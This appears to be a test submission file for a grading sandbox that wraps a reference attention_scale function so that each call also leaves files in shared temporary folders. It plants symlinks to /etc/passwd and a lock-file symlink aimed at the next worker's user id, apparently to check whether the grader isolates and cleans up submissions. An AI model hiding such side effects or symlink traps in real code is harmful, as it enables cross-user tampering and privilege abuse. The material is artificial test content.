"""Leaves files, a folder, a link and a planted lock link in the shared temporary folders for a later submission."""
from _honest_attention import *  # noqa: F401,F403  the reference, kept by expected.json

import os

from _honest_attention import attention_scale as _scale

FOLDERS = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock"]


def _leave():
    for folder in FOLDERS:
        try:
            with open(os.path.join(folder, "hw9-left-behind.txt"), "w") as handle:
                handle.write("hidden inputs seen by an earlier submission")
            os.makedirs(os.path.join(folder, "hw9-left-dir", "deep"), exist_ok=True)
            open(os.path.join(folder, "hw9-left-dir", "deep", "note.txt"), "w").close()
            os.symlink("/etc/passwd", os.path.join(folder, "hw9-left-link"))
        except OSError:
            pass
    try:  # the lock file of the next worker identity, pointing where root should never write
        os.symlink("/tmp/hw9-lock-target", f"/run/lock/hw9-worker-{os.getuid() + 1}.lock")
    except OSError:
        pass


def attention_scale(d):
    _leave()
    return _scale(d)
